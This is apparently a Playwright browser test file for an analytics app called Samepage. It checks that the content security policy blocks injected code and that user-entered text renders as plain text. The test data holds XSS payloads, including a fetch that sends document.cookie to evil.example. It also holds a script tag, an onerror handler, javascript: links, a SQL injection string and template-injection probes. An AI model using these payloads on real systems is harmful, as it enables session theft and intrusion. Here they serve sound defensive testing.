"""Scripts that get into a page don't run, and no Samepage page violates its own content security policy."""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.sync_api import expect

from pages.shell.navigation import PAGES
from semantic.policy.actor import Actor
from semantic.query.query import Query
from semantic.store.database import Store, connect_store
from semantic.store.keys import keys_of
from semantic.store.questions.questions import save_question
from semantic.store.questions.versions import Content
from semantic.store.spaces.spaces import MINE
from tests.browser.screen import GO_TO, OpenAs, title, wait_until_idle
from tests.browser.warm import warm_server
from tests.browser.windows import Windows
from tests.companies import current_company

INJECTED = {
    "a script": (
        "script-src-elem",
        """() => { const s = document.createElement('script');
        s.text = 'window.pwned = 1'; document.body.append(s) }""",
    ),
    "an image that fails": (
        "script-src-attr",
        """() => { document.body.insertAdjacentHTML('beforeend',
        '<img src=x: onerror=window.pwned=1>') }""",
    ),
    "an element with a click handler": (
        "script-src-attr",
        """() => { document.body.insertAdjacentHTML('beforeend',
        '<b id=b onclick=window.pwned=1>x</b>'); document.getElementById('b').click() }""",
    ),
    "a script from another site": (
        "script-src-elem",
        """() => { const s = document.createElement('script');
        s.src = 'https://evil.example/x.js'; document.body.append(s) }""",
    ),
    "a link that runs code": (
        "script-src-elem",
        """() => { const a = document.createElement('a'); a.href = 'javascript:window.pwned=1';
        document.body.append(a); a.click() }""",
    ),
    "a frame": (
        "frame-src",
        "() => { document.body.insertAdjacentHTML('beforeend', '<iframe src=https://evil.example></iframe>') }",
    ),
    "a form": (
        "form-action",
        """() => { document.body.insertAdjacentHTML('beforeend',
        '<form id=f action=https://evil.example method=post></form>'); document.getElementById('f').submit() }""",
    ),
    "another base": (
        "base-uri",
        """() => { document.head.insertAdjacentHTML('afterbegin', '<base href=https://evil.example/>') }""",
    ),
    "a request to another site": (
        "connect-src",
        "() => { fetch('https://evil.example/?' + document.cookie).catch(() => {}) }",
    ),
    "an image from another site": ("img-src", "() => { new Image().src = 'https://evil.example/x.png' }"),
}
ADMINISTRATOR = "Otto"  # every page is open to an administrator
LISTEN = """document.addEventListener('securitypolicyviolation',
    e => { if (e.blockedURI !== 'wasm-eval') (window.broken = window.broken || []).push(e.violatedDirective) })"""


def test_injected_code_is_blocked(windows: Windows, open_as: OpenAs) -> None:
    windows.expect_mistakes()  # every blocked attempt is reported as an error
    page = open_as(person="Lena")
    left: list[str] = []
    page.on("requestfinished", lambda request: left.append(request.url))
    expect(page.get_by_text("signed in as Lena")).to_be_visible()
    at = page.url
    page.evaluate(LISTEN)
    for what, (directive, script) in INJECTED.items():
        page.evaluate("() => { window.broken = [] }")
        page.evaluate(script)
        page.wait_for_function("directive => window.broken.includes(directive)", arg=directive)
        assert page.evaluate("() => window.pwned") is None, what
        assert [url for url in left if "evil.example" in url] == [], what
        assert page.url == at, what


def test_no_page_violates_its_content_security_policy(open_as: OpenAs) -> None:
    """A policy violation is an error on the browser's console, and any such error fails a test.

    Pages are opened as Back and Forward do. Reloading the app for each page would prove the same and take longer.
    """
    page = open_as(person=ADMINISTRATOR)
    for row in PAGES:
        if row.path != "start":
            page.evaluate(GO_TO, f"/{row.path}")
        title(page, TITLES.get(row.path, row.title))
        wait_until_idle(page)
        assert page.locator("[data-testid=stException]").count() == 0, row.path


TITLES = {"saved": "Saved", "compose": "Boards", "analyses": "Funnel"}
"""Page titles that differ from the page's name in the navigation."""


# What people write

WRITTEN = (
    "**bold** _it_ `code`", "[away](https://evil.example)", "![x](https://evil.example/x.png)", "# Heading", "> quote",
    "<img src=x onerror=alert(1)>", "<script>window.pwned=1</script>", ":red[red] :material/delete: :smile:",
    "$x^2$ and $$y$$", "~~gone~~", "&lt;b&gt; &amp; &nbsp;", "=1+1", "{{7*7}} ${7*7}", "| a | b |",
    "https://evil.example/path", "javascript:window.pwned=1", "'; drop table questions;", "<https://evil.example>",
    "\\*x\\* \\\\",
)  # fmt: skip


def test_names_and_sentences_that_people_write_are_shown_as_text(
    open_as: OpenAs, tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    data = current_company(tmp_path_factory)
    place, key = str(tmp_path / "store.sqlite"), "a key of tests that is long enough for it"
    with warm_server(
        tmp_path / "log", SAMEPAGE_DEMO="1", SAMEPAGE_DATA=str(data), SAMEPAGE_STORE=place, SAMEPAGE_AUDIT_KEY=key
    ) as port:
        _save_all(place, key)
        page = open_as("saved", person="Ana", at=f"http://127.0.0.1:{port}")
        rows = page.locator(".st-key-list-of-saved")
        expect(rows.get_by_role("link")).to_have_count(len(WRITTEN))
        # An invisible character keeps addresses from becoming links.
        names = [_seen(text.rpartition("\n")[2]) for text in rows.get_by_role("link").all_inner_texts()]
        assert sorted(names) == sorted(WRITTEN)
        shown = _seen(rows.inner_text())
        assert [text for text in WRITTEN if shown.count(text) < 2] == [], "a name and a sentence of each"
        assert rows.locator("img, script, code, strong em, del, h1, blockquote, li, .katex").count() == 0
        assert page.locator("a[href*=evil], a[href^=javascript], a[href^=mailto]").count() == 0
        assert page.evaluate("() => window.pwned") is None
        page.close()  # before its server stops, which a tab reports as an error


def _seen(text: str) -> str:
    return text.replace("\N{WORD JOINER}", "")


def _save_all(place: str, key: str) -> None:
    """Save a question under each text, with the next text as its description."""
    store, keys = Store(connect_store(place)), keys_of(key)
    ana = Actor(id="ana", name="Ana", roles=frozenset({"steward"}))
    content = Content(query=Query(metrics=("net_revenue",)))
    with store.write() as transaction:
        for text, other in zip(WRITTEN, (*WRITTEN[1:], WRITTEN[0]), strict=True):
            save_question(transaction, content, ana, keys, name=text, sentence=other, space=MINE)
    store.close()
